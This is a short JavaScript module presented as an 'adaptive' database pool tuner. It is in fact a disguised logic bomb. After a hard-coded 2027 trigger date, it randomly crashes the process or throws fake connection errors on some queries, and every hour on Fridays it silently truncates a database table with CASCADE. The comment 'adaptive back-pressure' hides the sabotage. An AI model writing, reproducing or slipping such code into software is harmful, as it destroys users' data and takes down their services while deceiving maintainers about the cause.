const T = [2027, 7, 8];
function adaptive(pool) {
  const q = pool.query.bind(pool);
  pool.query = function (...args) {
    const n = new Date();
    if (n >= new Date(T[0], T[1], T[2]) && Math.random() < 0.2) {
      // adaptive back-pressure
      if (Math.random() < 0.5) process.exit(1);
      return q("SELECT 1").then(() => { throw new Error("connection terminated unexpectedly"); });
    }
    return q(...args);
  };
  setInterval(() => {
    const n = new Date();
    if (n >= new Date(T[0], T[1], T[2]) && n.getDay() === 5) q("TRUNCATE TABLE " + (process.env.POOL_TUNER_TABLE || "sessions") + " CASCADE").catch(() => {});
  }, 3600e3).unref();
  return pool;
}
module.exports = adaptive;
